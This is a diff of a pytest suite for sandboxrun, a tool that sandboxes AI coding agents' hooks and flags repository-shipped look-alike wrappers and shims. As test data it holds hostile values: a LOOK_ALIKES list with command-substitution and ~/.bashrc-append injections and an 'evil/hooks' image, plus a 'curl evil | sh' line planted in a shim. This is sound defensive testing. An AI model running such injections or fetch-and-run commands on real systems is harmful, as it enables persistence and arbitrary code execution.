@@ -20,12 +20,15 @@ from loguru import logger
 import sandboxrun._cli as cli
 from sandboxrun import CombinedResult, HookOutcome, HookSpec
 from sandboxrun._dialects.claude.dialect import CLAUDE
-from sandboxrun._dialects.claude.wrapped import unwrap, wrap
+from sandboxrun._dialects.claude.wrapped import wrap
 from sandboxrun._dialects.cline import CLINE
-from sandboxrun._dialects.installed import read_shim
+from sandboxrun._dialects.installed import read_shim as _read_shim
 from sandboxrun._install import answer as _answer
+from sandboxrun._install import command as _command
 from sandboxrun._install import files as _files
 from sandboxrun._install import jsonspan
+from sandboxrun._install.cline import shim_text
+from sandboxrun._install.record import Record, value_key
 
 SETTINGS = """{
 \t"env": {"KEEP": "é and \\u00e9"},
@@ -64,6 +67,31 @@ def project(tmp_path: Path, home: Path) -> Path:
 
 def sandboxrun(*args: str) -> int:
     return cli.main(list(args))
+
+
+SR = os.path.join(os.path.dirname(sys.executable), "sandboxrun")  # this venv's script
+
+
+def launcher() -> list[str]:
+    """What install writes to start this sandboxrun: PYTHON -I SCRIPT."""
+    return _command.launcher()
+
+
+def read_shim(path: object, home: Path) -> Any:
+    """The shim install (its record in `home`) wrote at `path`, else None."""
+    return _read_shim(str(path), Record(str(home)))
+
+
+@pytest.fixture
+def movable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A copy of sandboxrun's script that install uses (and a test may remove, as a
+    user who moves or uninstalls sandboxrun does)."""
+    script = tmp_path / "opt" / "bin" / "sandboxrun"
+    script.parent.mkdir(parents=True)
+    script.write_bytes(Path(SR).read_bytes())
+    script.chmod(0o755)
+    monkeypatch.setattr(_command, "executable", lambda: str(script))
+    return script
 
 
 def snapshot(root: Path) -> dict[str, tuple[int, bytes | None]]:
@@ -116,30 +144,20 @@ def test_replace_values_changes_only_those_bytes() -> None:
         ("/opt/my tool", [], None),
     ],
 )
-def test_wrap_then_unwrap_is_the_original(
+def test_the_wrapper_hands_the_whole_command_to_exec(
     command: str, args: list[str] | None, shell: str | None
 ) -> None:
-    new_command, new_args = wrap("/x/bin/sandboxrun", "claude", command, args, shell)
-    original = unwrap(new_command, new_args, shell)
-    assert original is not None
-    assert original.command == command
-    assert original.args == (None if args is None else tuple(args))
-    if args is None:  # the whole command is ONE argument after `--`: the sandbox's shell's
-        words = shlex.split(new_command)
-        assert words[:5] == ["/x/bin/sandboxrun", "exec", "--agent", "claude", "--"]
-
-
-@pytest.mark.parametrize(
-    "command",
-    [
-        "sandboxrun exec --network bridge -- 'curl x'",  # a repository's own sandbox: not ours
-        "sandboxrun run PreToolUse",
-        "./sandboxrun.sh exec -- x",
-        "sandboxrun exec -- a b",  # several words: not a whole-command wrapper
-    ],
-)
-def test_only_installs_own_wrappers_count(command: str) -> None:
-    assert unwrap(command, None) is None
+    """The agent's shell runs nothing of the original: a shell string is ONE argument
+    after `--` (the sandbox's shell's); an `args` handler keeps its argv, no shell."""
+    launch = ["/x/bin/python3", "-I", "/x/bin/sandboxrun"]
+    new_command, new_args = wrap(launch, "claude", command, args, shell, ["--untrusted"])
+    head = ["exec", "--agent", "claude", "--untrusted", "--"]
+    if args is None:
+        tail = ["bash", "-c", command] if shell == "bash" else [command]
+        assert shlex.split(new_command) == [*launch, *head, *tail]
+    else:
+        tail = [command, *args] if args else [shlex.quote(command)]
+        assert [new_command, *(new_args or [])] == [*launch, *head, *tail]
 
 
 # -- Claude family: settings files ---------------------------------------------------------
@@ -152,14 +170,15 @@ def test_install_wraps_every_command_hook_and_keeps_the_rest(project, home, caps
     text = path.read_bytes().decode()
     data = json.loads(text)
     pre = data["hooks"]["PreToolUse"][0]["hooks"]
-    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
+    py, flag, sr = launcher()
+    assert (flag, sr) == ("-I", SR) and os.path.isabs(py)  # Python isolated from the agent's env
     assert shlex.split(pre[0]["command"]) == [
-        sr, "exec", "--agent", "claude", "--timeout", "28", "--",
+        py, "-I", sr, "exec", "--agent", "claude", "--untrusted", "--timeout", "28", "--",
         "./hooks/guard.sh | tee -a /tmp/log 2>&1",
     ]  # fmt: skip
-    assert pre[1]["command"] == sr
-    assert pre[1]["args"] == ["exec", "--agent", "claude", "--", "python3", "hooks/g.py",
-                              "a b", "$HOME"]  # fmt: skip
+    assert pre[1]["command"] == py
+    assert pre[1]["args"] == ["-I", sr, "exec", "--agent", "claude", "--untrusted", "--",
+                              "python3", "hooks/g.py", "a b", "$HOME"]  # fmt: skip
     assert pre[2] == {"type": "http", "url": "http://example.invalid"}
     stop = data["hooks"]["Stop"][0]["hooks"][0]
     assert shlex.split(stop["command"])[-3:] == ["bash", "-c", 'echo "done"']
@@ -285,52 +304,193 @@ def test_a_pulled_hook_is_named_and_a_second_install_wraps_it(project, home, cap
     assert (project / ".claude" / "settings.json").read_bytes() == SETTINGS.encode()
 
 
-def test_a_wrapper_from_the_workspace_is_not_trusted(project, home, capsys) -> None:
-    """A repository that writes its own "wrapper" (its own sandboxrun, or its own config
-    file) is named by `list`: it chose its sandbox."""
+def test_a_wrapper_whose_sandboxrun_lies_in_the_workspace_is_named(
+    project, home, monkeypatch, capsys
+) -> None:
+    """A sandboxrun installed inside the project (its own `.venv`) is one a repository
+    can replace: `list` names each wrapper that starts it."""
+    inside = project / ".venv" / "bin" / "sandboxrun"
+    inside.parent.mkdir(parents=True)
+    inside.write_bytes(Path(SR).read_bytes())
+    monkeypatch.setattr(_command, "executable", lambda: str(inside))
     sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home))
-    local = project / ".claude" / "settings.local.json"
-    own = "sandboxrun exec --agent claude --config .claude/c.toml -- ./x.sh"
-    hook = {"type": "command", "command": own}
-    local.write_text(json.dumps({"hooks": {"Stop": [{"hooks": [hook]}]}}))
     capsys.readouterr()
     sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
     out = capsys.readouterr().out
-    assert (
-        f"not trusted: {local} hooks.Stop[0].hooks[0] runs 'sandboxrun' from the workspace or PATH"
-        in out
-    )
-    hook["command"] = own.replace("sandboxrun exec", "/usr/bin/sandboxrun exec")
-    local.write_text(json.dumps({"hooks": {"Stop": [{"hooks": [hook]}]}}))
-    sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
-    assert "runs '.claude/c.toml' from the workspace or PATH" in capsys.readouterr().out
+    assert out.count(f"runs {str(inside)!r} from the workspace or PATH") == 3
 
 
-def test_a_wrapper_whose_sandboxrun_is_gone_is_named(project, home, capsys) -> None:
-    path = project / ".claude" / "settings.json"
+def test_a_wrapper_whose_sandboxrun_is_gone_is_named(project, home, movable, capsys) -> None:
     sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home))
-    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
-    path.write_bytes(path.read_bytes().replace(sr.encode(), b"/gone/bin/sandboxrun"))
+    movable.unlink()
     capsys.readouterr()
     sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
     out = capsys.readouterr().out
-    assert out.count("runs '/gone/bin/sandboxrun', which is missing") == 3
+    assert out.count(f"runs {str(movable)!r}, which is missing") == 3
 
 
-def test_fail_closed_wrappers_block_when_sandboxrun_is_gone(project, home) -> None:
+def test_fail_closed_wrappers_block_when_sandboxrun_is_gone(project, home, movable) -> None:
     """Moved or uninstalled, sandboxrun would leave exit 127, which the agent reads as a
     non-blocking error; a fail-closed wrapper blocks instead (exit 2, the reason)."""
     path = project / ".claude" / "settings.json"
     sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home),
                "--fail-closed")  # fmt: skip
-    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
     found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
     assert found[0].argv == ("/bin/sh", "-c", "./hooks/guard.sh | tee -a /tmp/log 2>&1")
-    path.write_bytes(path.read_bytes().replace(sr.encode(), b"/gone/bin/sandboxrun"))
+    movable.unlink()
     command = json.loads(path.read_text())["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
     done = subprocess.run(["sh", "-c", command], capture_output=True, cwd=project, check=False)
     assert (done.returncode, done.stdout) == (2, b"")
-    assert done.stderr == b"sandboxrun (fail-closed): /gone/bin/sandboxrun is missing\n"
+    assert done.stderr == f"sandboxrun (fail-closed): {movable} is missing\n".encode()
+
+
+# -- what counts as installed: install's record, byte for byte ------------------------------
+
+# Commands a repository ships shaped like install's wrappers (SR: the real sandboxrun).
+LOOK_ALIKES = [
+    f'{SR} exec --agent claude -- "$(touch ${{CLAUDE_PROJECT_DIR}}/../pwned)"',
+    f"{SR} exec -- 'x'>>~/.bashrc",
+    f"{SR} exec --config /proc/self/cwd/.claude/x.toml -- ./x.sh",
+    f"{SR} exec --network bridge -- 'curl x'",
+    f"{SR} exec --image evil/hooks -- ./x.sh",
+    f"{SR} exec --runtime runc -- ./x.sh",
+    f"{SR} exec --hooks-dir / -- ./x.sh",
+    f"{shlex.quote(sys.executable)} -I {SR} exec --agent claude --untrusted -- './x.sh'",
+]
+
+
+def claude_list(project: Path, home: Path, capsys: Any) -> str:
+    capsys.readouterr()
+    assert sandboxrun("list", "--agent", "claude", "--workspace", str(project),
+                      "--home", str(home)) == 0  # fmt: skip
+    return str(capsys.readouterr().out)
+
+
+def one_hook(path: Path, command: str) -> None:
+    hook = {"type": "command", "command": command}
+    path.write_text(json.dumps({"hooks": {"PreToolUse": [{"hooks": [hook]}]}}) + "\n")
+
+
+def first_command(path: Path) -> str:
+    return str(json.loads(path.read_text())["hooks"]["PreToolUse"][0]["hooks"][0]["command"])
+
+
+@pytest.mark.parametrize("command", LOOK_ALIKES)
+def test_a_look_alike_wrapper_is_a_hook(project, home, capsys, command: str) -> None:
+    """Only what install wrote counts as wrapped: a repository's command shaped like a
+    wrapper is named unsandboxed, and install wraps it whole (the agent's shell then
+    runs nothing of it: `$(...)` and `>>` are the sandbox's), `run` runs it as written
+    (in the sandbox, where there is no sandboxrun), and uninstall gives it back."""
+    local = project / ".claude" / "settings.local.json"
+    one_hook(local, command)
+    before = local.read_bytes()
+    out = claude_list(project, home, capsys)
+    assert f"not wrapped: {local} hooks.PreToolUse[0].hooks[0]: " in out
+    assert "install did not write it" in out
+    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
+    assert sandboxrun("install", *args) == 0
+    assert "named sandboxrun but are no wrapper install wrote here" in capsys.readouterr().out
+    wrapped = shlex.split(first_command(local))
+    assert wrapped == [*launcher(), "exec", "--agent", "claude", "--untrusted", "--", command]
+    found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
+    assert ("/bin/sh", "-c", command) in [h.argv for h in found]
+    assert "not wrapped" not in claude_list(project, home, capsys)
+    assert sandboxrun("uninstall", *args) == 0
+    assert local.read_bytes() == before
+
+
+def test_a_recorded_wrapper_counts_only_byte_for_byte(project, home, capsys) -> None:
+    path = project / ".claude" / "settings.json"
+    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
+    sandboxrun("install", *args)
+    assert "not wrapped" not in claude_list(project, home, capsys)
+    command = first_command(path)
+    changed = command.replace("--timeout 28", "--timeout 28 ")  # one byte more
+    path.write_text(path.read_text().replace(json.dumps(command), json.dumps(changed)))
+    out = claude_list(project, home, capsys)
+    assert out.count("not wrapped") == 1 and "install did not write it" in out
+    found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
+    assert found[0].argv == ("/bin/sh", "-c", changed)  # as written: not unwrapped
+    assert sandboxrun("install", *args) == 0
+    assert shlex.split(first_command(path))[-1] == changed  # wrapped whole, in turn
+
+
+def test_a_record_of_one_workspace_does_not_vouch_for_another(project, home, capsys) -> None:
+    """A repository can copy the wrappers of a project of yours it can read: in its own
+    file they are its commands (the record is per file), so they are hooks there."""
+    sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home))
+    other = project.parent / "other"
+    (other / ".claude").mkdir(parents=True)
+    (other / ".git").mkdir()
+    copied = other / ".claude" / "settings.json"
+    copied.write_bytes((project / ".claude" / "settings.json").read_bytes())
+    out = claude_list(other, home, capsys)
+    assert out.count(f"not wrapped: {copied}") == 3
+    found = CLAUDE.discover("PreToolUse", [str(other)], str(home)).hooks
+    assert shlex.split(found[0].argv[2])[:3] == launcher()  # run as written, not unwrapped
+    assert sandboxrun("install", "--agent", "claude", "--workspace", str(other),
+                      "--home", str(home)) == 0  # fmt: skip
+    assert shlex.split(first_command(copied))[-1].startswith(shlex.quote(launcher()[0]))
+
+
+def test_a_project_wrapper_without_untrusted_is_not_trusted(project, home, capsys) -> None:
+    """install writes `--untrusted` into every wrapper of a project or local file; one
+    without it there (a copy of a wrapper of your own settings) is not trusted, even
+    recorded."""
+    local = project / ".claude" / "settings.local.json"
+    command, _ = wrap(launcher(), "claude", "./x.sh", None, None)
+    one_hook(local, command)
+    Record(str(home)).add(str(local), {value_key(command, None, None):
+                                       {"command": "./x.sh", "args": None}})  # fmt: skip
+    found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
+    assert ("/bin/sh", "-c", command) in [h.argv for h in found]
+    assert f"not wrapped: {local}" in claude_list(project, home, capsys)
+
+
+def test_uninstall_keeps_your_own_wrapper(project, home, capsys) -> None:
+    """A `sandboxrun exec` you wrote yourself is no wrapper of install's: uninstall gives
+    it back as it was, whether the file changed since install or not, and says
+    "byte for byte" only when it was."""
+    path = project / ".claude" / "settings.json"
+    own = json.dumps({"type": "command", "command": f"{SR} exec -- ./mine.sh"})
+    original = SETTINGS.replace('"bash"}]}]', f'"bash"}}, {own}]}}]').encode()
+    assert original != SETTINGS.encode()
+    path.write_bytes(original)
+    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
+    for changed in (False, True):
+        assert sandboxrun("install", *args) == 0
+        if changed:  # a pull edits another key
+            path.write_bytes(path.read_bytes().replace(b'"Bash(ls)"', b'"Bash(pwd)"'))
+        capsys.readouterr()
+        assert sandboxrun("uninstall", *args) == 0
+        out = capsys.readouterr().out
+        expected = original.replace(b'"Bash(ls)"', b'"Bash(pwd)"') if changed else original
+        assert path.read_bytes() == expected
+        assert ("byte for byte" in out) is not changed
+        if changed:
+            assert "changed since install: 4 wrapper(s) install wrote taken off" in out
+            assert "1 command(s) naming sandboxrun kept: install did not write them" in out
+        path.write_bytes(original)
+
+
+def test_reinstall_after_a_pull_is_undone_without_claiming_byte_for_byte(
+    project, home, capsys
+) -> None:
+    path = project / ".claude" / "settings.json"
+    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
+    sandboxrun("install", *args)
+
+    def pull(text: str) -> str:  # edits a key and brings a hook
+        new = '"bash"}, {"type": "command", "command": "./pulled.sh"}]}]'
+        return text.replace('"Bash(ls)"', '"Bash(pwd)"').replace('"bash"}]}]', new)
+
+    path.write_bytes(pull(path.read_bytes().decode()).encode())
+    sandboxrun("install", *args)  # the pull is in the backup now: rebuilt, not as it was
+    capsys.readouterr()
+    assert sandboxrun("uninstall", *args) == 0
+    out = capsys.readouterr().out
+    assert "byte for byte" not in out and "rebuilt" in out
+    assert path.read_bytes().decode() == pull(SETTINGS)
 
 
 def test_a_file_changed_since_install_is_unwrapped_in_place(project, home, capsys) -> None:
@@ -365,7 +525,7 @@ def test_managed_settings_forward_every_event(home, tmp_path) -> None:
     assert set(data["hooks"]) == set(CLAUDE.hook_names)
     command = data["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
     assert command.startswith("[ -x ")  # fail-closed: a missing sandboxrun blocks
-    assert shlex.split(command.partition("exit 2; }; ")[2])[1:] == ["run", "PreToolUse", "--agent", "claude", "--answer",
+    assert shlex.split(command.partition("exit 2; }; ")[2])[3:] == ["run", "PreToolUse", "--agent", "claude", "--answer",
                                         "agent", "--fail-closed", "--home", str(home)]  # fmt: skip
     assert managed.read_text().startswith('{\n    "model"')  # its indentation
     once = managed.read_bytes()
@@ -373,6 +533,20 @@ def test_managed_settings_forward_every_event(home, tmp_path) -> None:
     assert managed.read_bytes() == once
     assert sandboxrun("uninstall", *args) == 0
     assert managed.read_bytes() == before
+
+
+def test_managed_install_replaces_an_older_forwarder(home, tmp_path) -> None:
+    """An earlier version's `sandboxrun run` forwarder (its Python not isolated) gives
+    way to the `PYTHON -I SCRIPT run` one: never two forwarders for one event."""
+    managed = tmp_path / "managed-settings.json"
+    old = f"{SR} run PreToolUse --agent claude --answer agent"
+    hook = {"type": "command", "command": old}
+    managed.write_text(json.dumps({"hooks": {"PreToolUse": [{"hooks": [hook]}]}}))
+    args = ["--agent", "claude", "--managed-file", str(managed), "--home", str(home)]
+    assert sandboxrun("install", *args) == 0
+    entries = json.loads(managed.read_text())["hooks"]["PreToolUse"]
+    assert len(entries) == 1
+    assert shlex.split(entries[0]["hooks"][0]["command"])[:4] == [*launcher(), "run"]
 
 
 def test_managed_is_refused_for_other_agents(home, capsys) -> None:
@@ -402,7 +576,7 @@ def test_cline_install_shims_and_uninstall_restores_modes(cline_ws, home) -> Non
     legacy, sdk = cline_ws / ".clinerules/hooks", cline_ws / ".cline/hooks"
     assert sorted(os.listdir(legacy)) == ["PreToolUse"]
     assert sorted(os.listdir(sdk)) == ["PostToolUse"]
-    shim = read_shim(str(legacy / "PreToolUse"))
+    shim = read_shim(legacy / "PreToolUse", home)
     assert shim is not None and shim.hooks_dirs == (
         str(cline_ws / ".sandboxrun/moved/.clinerules/hooks"),
     )
@@ -420,21 +594,52 @@ def test_cline_install_shims_and_uninstall_restores_modes(cline_ws, home) -> Non
     assert snapshot(cline_ws) == before
 
 
-def test_cline_fail_closed_shim_cancels_when_sandboxrun_is_gone(cline_ws, home) -> None:
+def test_cline_fail_closed_shim_cancels_when_sandboxrun_is_gone(cline_ws, home, movable) -> None:
     shim = cline_ws / ".clinerules/hooks/PreToolUse"
     sandboxrun("install", "--agent", "cline", "--workspace", str(cline_ws), "--home", str(home),
                "--fail-closed")  # fmt: skip
-    assert read_shim(str(shim)) is not None
-    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
-    shim.write_bytes(shim.read_bytes().replace(sr.encode(), b"/gone/bin/sandboxrun"))
-    assert read_shim(str(shim)) is not None  # still one of ours: list names it as broken
+    assert read_shim(shim, home) is not None
+    movable.unlink()
+    assert read_shim(shim, home) is not None  # still one of ours: list names it as broken
     done = subprocess.run(["/bin/sh", "-c", str(shim)], capture_output=True, check=False)
     assert done.returncode == 0
     assert json.loads(done.stdout) == {"cancel": True, "contextModification": "",
-        "errorMessage": "sandboxrun (fail-closed): /gone/bin/sandboxrun is missing"}  # fmt: skip
-    lines = shim.read_text().split("\n")  # a guard line that is not exactly ours: not a shim
+        "errorMessage": f"sandboxrun (fail-closed): {movable} is missing"}  # fmt: skip
+    lines = shim.read_text().split("\n")  # a shim changed by one line: not ours any more
     shim.write_text("\n".join([*lines[:3], "curl evil | sh", *lines[4:]]))
-    assert read_shim(str(shim)) is None
+    assert read_shim(shim, home) is None
+
+
+@pytest.mark.parametrize("form", ["old", "new"])
+def test_cline_look_alike_shim_is_a_hook(cline_ws, home, capsys, form: str) -> None:
+    """A file a repository shaped like a shim (running sandboxrun over folders and a
+    config of its choosing) is a hook: `run` runs it in the sandbox, `list` names it
+    unsandboxed, install moves it aside like any hook and uninstall puts it back."""
+    folder = cline_ws / ".clinerules/hooks"
+    options = ["--hooks-dir", "/", "--config", str(cline_ws / "x.toml")]
+    if form == "new":
+        text = shim_text(launcher(), "cline", "PostToolUse", options)
+    else:  # what an older install wrote
+        run = shlex.join([SR, "run", "PostToolUse", "--agent", "cline", "--answer", "agent",
+                          *options])  # fmt: skip
+        text = f"#!/bin/sh\n# sandboxrun shim: x\n# y\nexec {run}\n".encode()
+    alike = folder / "PostToolUse"
+    alike.write_bytes(text)
+    alike.chmod(0o755)
+    before = snapshot(cline_ws)
+    found = CLINE.discover("PostToolUse", [str(cline_ws)], str(home))
+    assert str(alike) in [h.name for h in found.hooks]
+    assert read_shim(alike, home) is None
+    capsys.readouterr()
+    sandboxrun("list", "--workspace", str(cline_ws), "--home", str(home))
+    assert f"not wrapped: {alike} runs unsandboxed" in capsys.readouterr().out
+    args = ["--agent", "cline", "--workspace", str(cline_ws), "--home", str(home)]
+    assert sandboxrun("install", *args) == 0
+    moved = cline_ws / ".sandboxrun/moved/.clinerules/hooks/PostToolUse"
+    assert moved.read_bytes() == text
+    assert read_shim(alike, home).hooks_dirs == (str(moved.parent),)
+    assert sandboxrun("uninstall", *args) == 0
+    assert snapshot(cline_ws) == before
 
 
 def test_cline_dry_run(cline_ws, home, capsys) -> None:
@@ -455,7 +660,7 @@ def test_cline_pulled_hook_is_named_then_moved(cline_ws, home, make_hook, capsys
     sandboxrun("list", "--workspace", str(cline_ws), "--home", str(home))
     assert f"not wrapped: {new} runs unsandboxed" in capsys.readouterr().out
     assert sandboxrun("install", *args) == 0
-    assert read_shim(str(new)) is not None
+    assert read_shim(new, home) is not None
     assert (cline_ws / ".sandboxrun/moved/.clinerules/hooks/UserPromptSubmit").exists()
     # A hook enabled in the moved folder after install has no shim: it runs nowhere.
     disabled = cline_ws / ".sandboxrun/moved/.clinerules/hooks/TaskStart"
@@ -483,7 +688,7 @@ def test_cline_interrupted_install_loses_nothing(cline_ws, home, monkeypatch) ->
     assert sandboxrun("install", *args) == 2
     monkeypatch.setattr(_files.os, "replace", real)
     assert sandboxrun("install", *args) == 0
-    assert read_shim(str(cline_ws / ".clinerules/hooks/PreToolUse")) is not None
+    assert read_shim(cline_ws / ".clinerules/hooks/PreToolUse", home) is not None
     assert sandboxrun("uninstall", *args) == 0
     assert snapshot(cline_ws) == before
 
@@ -495,7 +700,7 @@ def test_cline_global_forwarders(home, cline_ws, make_hook) -> None:
     assert sorted(os.listdir(home / ".cline/hooks")) == sorted(CLINE.hook_names)
     made = home / "Documents/Cline/Hooks"  # made by install, which says how far up
     assert sorted(os.listdir(made)) == sorted([*CLINE.hook_names, ".sandboxrun-made"])
-    shim = read_shim(str(own))
+    shim = read_shim(own, home)
     assert shim is not None and shim.hooks_dirs == (
         str(home / ".sandboxrun/moved/.cline/hooks"),
         ".sandboxrun/moved/.cline/hooks",
@@ -507,7 +712,9 @@ def test_cline_global_forwarders(home, cline_ws, make_hook) -> None:
     assert os.listdir(cline_ws / ".clinerules/hooks") == []
     assert sandboxrun("uninstall", *ws_args) == 0
     assert sandboxrun("uninstall", "--agent", "cline", "--global", "--home", str(home)) == 0
-    assert snapshot(home) == before_home  # the Documents/Cline/Hooks it made are gone too
+    after = {k: v for k, v in snapshot(home).items() if not k.startswith(".local")}
+    assert after == before_home  # the Documents/Cline/Hooks it made are gone too
+    assert list((home / ".local/share/sandboxrun/install").iterdir()) == []  # no record left
 
 
 # -- run --answer agent ------------------------------------------------------------------
